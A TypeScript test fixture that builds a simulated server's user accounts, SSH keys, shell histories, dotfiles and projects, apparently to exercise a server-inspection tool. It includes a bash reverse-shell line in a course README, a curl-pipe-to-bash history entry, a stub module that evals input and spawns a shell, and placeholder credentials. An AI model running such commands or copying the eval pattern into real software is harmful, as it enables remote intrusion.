/** People of the server: accounts, keys, histories, dot files of all kinds, projects, and what programs leave in a home. */

import type { Tree } from '../tree.ts';

const publicKey = (seed: string): string => `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${Buffer.from(seed.repeat(8)).toString('base64').slice(0, 43)}`;

export const adaKey = publicKey('ada');

export function people(tree: Tree): void {
	for (const [name, gecos, shell] of [['ada', 'Ada Lovelace', '/bin/bash'], ['grace', 'Grace Hopper', '/usr/bin/zsh'], ['jürgen', 'Jürgen Groß', '/bin/bash']] as const) {
		tree.inside('useradd', '--badname', '-m', '-c', gecos, '-s', shell, '-p', '$y$j9T$Vb5Hk1mJq0nYQ4P3Qk0xs1$0i6Q6nF8g1uYlH0v1o3m6yNQzHqY1w9R0kqj5Lw8Q5C', name);
	}
	tree.inside('useradd', '-m', '-c', 'deployment', '-s', '/bin/bash', 'deploy');
	tree.inside('useradd', '-m', '-c', 'borg backups', '-s', '/bin/sh', '-d', '/srv/borg', '-r', 'borg');
	tree.inside('useradd', '-r', '-m', '-c', 'Gitea', '-s', '/bin/bash', '-d', '/home/git', 'git');
	tree.inside('useradd', '-r', '-M', '-c', 'node exporter', '-s', '/usr/sbin/nologin', '-d', '/nonexistent', 'node_exporter');
	tree.inside('groupadd', 'developers');
	for (const name of ['ada', 'grace']) tree.inside('usermod', '-aG', 'sudo,adm,developers,www-data', name);
	keys(tree);
	homes(tree);
	projects(tree);
	formerColleague(tree);
}

function keys(tree: Tree): void {
	tree.write('/root/.ssh/authorized_keys', `# admins\n${adaKey} ada@laptop\n`, { mode: 0o600 });
	tree.mode('/root/.ssh', 0o700);
	tree.write('/home/ada/.ssh/authorized_keys', `${adaKey} ada@laptop\n${publicKey('ada2')} ada@phone\n`, { owner: 'ada', mode: 0o600 });
	tree.write('/home/grace/.ssh/authorized_keys', `from="10.0.0.0/8,*.example.org" ${publicKey('grace')} grace@desk\n`, { owner: 'grace', mode: 0o600 });
	tree.write('/home/ada/.ssh/id_ed25519', '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAACmFlczI1Ni1jdHIAAAAGYmNyeXB0AAAAGAAAABDexample\n-----END OPENSSH PRIVATE KEY-----\n', { owner: 'ada', mode: 0o600 });
	tree.write('/home/ada/.ssh/id_ed25519.pub', `${adaKey} ada@server\n`, { owner: 'ada' });
	tree.write('/home/ada/.ssh/known_hosts', `github.com ${publicKey('github')}\n|1|lcrHeCZHzPCA5WAvFpH5bDqg5UE=|SPaYlvs4X1oAGxhSRkrhTs5cY3U= ${publicKey('nas')}\n`, { owner: 'ada', mode: 0o600 });
	tree.write('/home/ada/.ssh/config', 'Host *\n\tControlMaster auto\n\tControlPath ~/.ssh/cm-%r@%h:%p\n\nHost nas\n\tHostName 10.0.0.9\n\tProxyCommand ssh -W %h:%p gateway.example.org\n\tUser backup\n', { owner: 'ada', mode: 0o600 });
	tree.write(
		'/home/deploy/.ssh/authorized_keys',
		`command="/usr/local/bin/deploy-site",no-port-forwarding,no-X11-forwarding,no-agent-forwarding,no-pty ${publicKey('ci')} ci@build\ncommand="rsync --server --sender -logDtpr . /srv/www",restrict ${publicKey('nas')} backup@nas\n`,
		{ owner: 'deploy', mode: 0o600 },
	);
	tree.write('/srv/borg/.ssh/authorized_keys', `command="borg serve --restrict-to-path /srv/borg/repos --append-only",restrict ${publicKey('client')} root@laptop\n`, { owner: 'borg', mode: 0o600 });
	tree.write('/home/git/.ssh/authorized_keys', `command="/usr/local/bin/gitea --config=/etc/gitea/app.ini serv key-1",no-port-forwarding,no-X11-forwarding,no-agent-forwarding,no-user-rc,restrict ${adaKey} user-1\n`, { owner: 'git', mode: 0o600 });
	for (const home of ['/home/ada', '/home/grace', '/home/deploy', '/srv/borg', '/home/git']) tree.mode(`${home}/.ssh`, 0o700);
}

function homes(tree: Tree): void {
	const ada = { owner: 'ada' } as const;
	tree.write('/home/ada/.bash_history', 'sudo apt update\nsudo apt upgrade\nvim /etc/nginx/sites-enabled/default\nsudo systemctl restart nginx\nssh nas\ncurl -sSL https://get.example.org/install.sh | bash\nnc -zv 10.0.0.9 22\nchmod +x ~/bin/backup-photos\nsudo tcpdump -i eth0 port 53\n', { ...ada, mode: 0o600 });
	tree.write('/root/.bash_history', 'apt install php-fpm\nvisudo -f /etc/sudoers.d/deploy\njournalctl -u php8.2-fpm\npasswd ada\nless /var/log/auth.log\n', { mode: 0o600 });
	tree.append('/home/ada/.bashrc', '\n# mine\nexport EDITOR=vim PAGER=less\nexport PATH="$HOME/bin:$HOME/.local/bin:$HOME/.cargo/bin:$PATH"\nHISTSIZE=100000\nHISTFILESIZE=200000\nHISTCONTROL=ignoreboth:erasedups\nalias ll="ls -alF"\nalias gs="git status"\nalias sudo="sudo "\nalias rm="rm -i"\n[ -f ~/.fzf.bash ] && source ~/.fzf.bash\neval "$(dircolors -b)"\neval "$(ssh-agent -s)" >/dev/null\n[ -s "$HOME/.nvm/nvm.sh" ] && . "$HOME/.nvm/nvm.sh"\ncomplete -C /usr/local/bin/terraform terraform\nweather() { curl -s "https://wttr.in/$1"; }\n');
	tree.append('/root/.bashrc', "\nexport LS_OPTIONS='--color=auto'\nalias ls='ls $LS_OPTIONS'\nexport HISTTIMEFORMAT='%F %T '\nPS1='\\[\\e[1;31m\\]\\h:\\w# \\[\\e[0m\\]'\n");
	tree.write('/home/grace/.zshrc', 'export ZSH="$HOME/.oh-my-zsh"\nZSH_THEME="robbyrussell"\nplugins=(git docker)\n[ -f $ZSH/oh-my-zsh.sh ] && source $ZSH/oh-my-zsh.sh\nsetopt HIST_IGNORE_SPACE\nbindkey -e\nautoload -Uz compinit && compinit\n', { owner: 'grace' });
	tree.write('/home/grace/.zsh_history', ': 1729157301:0;sudo -i\n: 1729157399:0;psql -h db\n', { owner: 'grace', mode: 0o600 });
	tree.write('/home/ada/.vimrc', 'syntax on\nset number\nautocmd BufWritePre *.py :%s/\\s\\+$//e\nautocmd FileType make setlocal noexpandtab\n', ada);
	tree.write('/home/ada/.tmux.conf', 'set -g prefix C-a\nset -g status-right "#(uptime | cut -d, -f3-)"\nbind r source-file ~/.tmux.conf\n', ada);
	tree.write('/home/ada/.inputrc', 'set completion-ignore-case on\n', ada);
	tree.write('/home/ada/.netrc', 'machine artifacts.example.org login ada password kept-in-vault\n', { ...ada, mode: 0o600 });
	tree.write('/home/ada/.pgpass', 'db.example.org:5432:*:ada:secret\n', { ...ada, mode: 0o600 });
	tree.write('/home/ada/.forward', 'ada@example.org\n', ada);
	tree.write('/home/ada/.config/systemd/user/syncthing.service', '[Unit]\nDescription=Syncthing\n\n[Service]\nExecStart=%h/bin/syncthing serve --no-browser --no-restart\nRestart=on-failure\n\n[Install]\nWantedBy=default.target\n', ada);
	tree.link('../syncthing.service', '/home/ada/.config/systemd/user/default.target.wants/syncthing.service', ada);
	tree.copy('/usr/bin/rsync', '/home/ada/bin/syncthing', { ...ada, mode: 0o755 });
	tree.write('/home/ada/bin/backup-photos', '#!/bin/sh\nset -e\nrsync -a --delete "$HOME/Pictures/" nas:photos/\n', { ...ada, mode: 0o755 });
	tree.write('/home/ada/.config/autostart/nextcloud.desktop', '[Desktop Entry]\nType=Application\nName=Nextcloud\nExec=/usr/bin/nextcloud --background\nX-GNOME-Autostart-enabled=true\n', ada);
	for (const name of ['Meine Übersicht 2025.odt', 'Steuer  (final) v2.pdf', 'résumé.txt', "it's ok.txt", '日本語のメモ.txt', 'weird & wild #1.md', '100% done.txt', '-notes.txt', 'family 👨‍👩‍👧.jpg'])
		tree.write(`/home/jürgen/Dokumente/${name}`, 'words\n', { owner: 'jürgen' });
	tree.write(Buffer.concat([Buffer.from('/home/jürgen/Dokumente/'), Buffer.from('Gr\xfc\xdfe.doc', 'latin1')]), 'old\n', { owner: 'jürgen' });
	tree.write('/home/jürgen/Bilder/Urlaub am See/IMG_0001.JPG', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16]), Buffer.from('JFIF\0'), Buffer.alloc(4000, 7)]), { owner: 'jürgen' });
	tree.write('/home/jürgen/.profile.swp', 'b0VIM 8.1\0\0\0', { owner: 'jürgen', mode: 0o600 });
	tree.write('/home/jürgen/.local/share/Trash/files/alt.tar.gz', gzip, { owner: 'jürgen' });
	tree.write('/home/jürgen/.lesshst', '.less-history-file:\n', { owner: 'jürgen', mode: 0o600 });
	tree.write('/home/ada/.cache/pip/http/a/b/c', 'x', ada);
	tree.write('/home/ada/.cargo/bin/rg', tree.read('/usr/bin/xz'), { ...ada, mode: 0o755 });
	tree.write('/home/ada/.nvm/nvm.sh', '# Node Version Manager\nnvm() { echo nvm; }\n', ada);
	tree.copy('/usr/bin/xz', '/home/ada/.nvm/versions/node/v22.1.0/bin/node', { ...ada, mode: 0o755 });
	tree.write('/home/ada/.local/bin/yt-dlp', '#!/usr/bin/env python3\nimport sys\nprint(sys.argv)\n', { ...ada, mode: 0o755 });
	tree.write('/home/ada/.vscode-server/bin/abc123/server.sh', '#!/bin/sh\nexec node "$@"\n', { ...ada, mode: 0o755 });
	tree.copy('/usr/bin/xz', '/home/ada/.vscode-server/bin/abc123/node', { ...ada, mode: 0o755 });
	tree.write('/home/ada/core', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01'), Buffer.alloc(9), Buffer.from([4, 0, 62, 0]), Buffer.alloc(2000)]), { ...ada, mode: 0o600 });
	tree.fifo('/home/ada/.mutt/pipe', ada);
	tree.socket('/home/ada/.gnupg/S.gpg-agent', { ...ada, mode: 0o700 });
	tree.mode('/home/ada/.gnupg', 0o700);
}

const gzip = Buffer.from('1f8b08000000000000036bd0c12a000000ffff0300', 'hex');

function projects(tree: Tree): void {
	const ada = { owner: 'ada' } as const;
	for (const project of ['/home/ada/src/site', '/srv/git/website.git']) {
		const git = project.endsWith('.git') ? project : `${project}/.git`;
		const own = project.startsWith('/home') ? ada : ({ owner: 'git' } as const);
		tree.write(`${git}/HEAD`, 'ref: refs/heads/main\n', own);
		for (const folder of ['objects/info', 'objects/pack', 'refs/heads']) tree.dir(`${git}/${folder}`, own);
		tree.write(`${git}/config`, `[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = ${String(project.endsWith('.git'))}\n[remote "origin"]\n\turl = git@git.example.org:site.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main\n`, own);
		for (const hook of ['pre-commit', 'post-update', 'applypatch-msg', 'fsmonitor-watchman']) tree.copy(`/usr/share/git-core/templates/hooks/${hook}.sample`, `${git}/hooks/${hook}.sample`, { ...own, mode: 0o755 });
	}
	tree.write('/home/ada/src/site/.git/hooks/pre-commit', '#!/bin/sh\nexec npx lint-staged\n', { ...ada, mode: 0o755 });
	tree.write('/home/ada/src/site/.git/hooks/commit-msg', '#!/usr/bin/env bash\nset -e\nnpx --no -- commitlint --edit "$1"\n', { ...ada, mode: 0o755 });
	tree.write('/srv/git/website.git/hooks/post-receive', '#!/bin/sh\nwhile read old new ref; do\n\t[ "$ref" = refs/heads/main ] && GIT_WORK_TREE=/srv/www/website git checkout -f main\ndone\n', { owner: 'git', mode: 0o755 });
	tree.write('/home/ada/.gitconfig', '[user]\n\tname = Ada\n\temail = ada@example.org\n[core]\n\teditor = vim\n\tpager = less -FRX\n\thooksPath = ~/.githooks\n\texcludesfile = ~/.gitignore\n[filter "lfs"]\n\tclean = git-lfs clean -- %f\n\tsmudge = git-lfs smudge -- %f\n\tprocess = git-lfs filter-process\n\trequired = true\n[alias]\n\tco = checkout\n\troot = !pwd\n[credential]\n\thelper = cache --timeout=3600\n[diff "exif"]\n\ttextconv = exiftool\n', ada);
	tree.write('/home/ada/.githooks/pre-push', '#!/bin/sh\nmake test\n', { ...ada, mode: 0o755 });
	tree.write('/home/ada/src/site/package.json', '{"name":"site","scripts":{"postinstall":"node build.js"}}\n', ada);
	tree.write('/home/ada/src/site/node_modules/.bin/eslint', '#!/usr/bin/env node\nrequire("../eslint");\n', { ...ada, mode: 0o755 });
	tree.write('/home/ada/src/site/node_modules/esbuild/bin/esbuild', tree.read('/usr/bin/xz'), { ...ada, mode: 0o755 });
	tree.write('/home/ada/src/site/node_modules/evalish/index.js', 'module.exports = code => eval(code);\nrequire("child_process").exec("ls");\n', ada);
	tree.write('/home/ada/src/tool/.venv/pyvenv.cfg', 'home = /usr/bin\nversion = 3.11.2\n', ada);
	tree.link('/usr/bin/python3', '/home/ada/src/tool/.venv/bin/python', ada);
	tree.write('/home/ada/src/tool/.venv/lib/python3.11/site-packages/__editable__.tool-1.0.pth', '/home/ada/src/tool/src\n', ada);
	tree.write('/home/ada/src/tool/.venv/lib/python3.11/site-packages/distutils-precedence.pth', "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n", ada);
	tree.write('/home/ada/src/tool/setup.py', 'import subprocess\nsubprocess.run(["make"])\n', ada);
	tree.write('/home/ada/src/exploit-course/README.md', 'Notes of a course: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 is a reverse shell.\n', ada);
	tree.write('/home/ada/src/driver/hello.c', '#include <linux/module.h>\nMODULE_LICENSE("GPL");\n', ada);
	tree.write('/home/ada/src/driver/Makefile', 'obj-m += hello.o\n', ada);
	tree.write('/home/ada/src/driver/hello.ko', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01'), Buffer.alloc(9), Buffer.from([1, 0, 62, 0]), Buffer.alloc(600)]), ada);
}

/** An account was deleted, its files were not. */
function formerColleague(tree: Tree): void {
	tree.write('/home/old/peter/.bashrc', '# peter\n', { owner: 1007 });
	tree.write('/home/old/peter/thesis.tex', '\\documentclass{book}\n', { owner: 1007 });
	tree.write('/home/old/peter/bin/plot', '#!/usr/bin/perl\nprint "plot\\n";\n', { owner: 1007, mode: 0o755 });
}
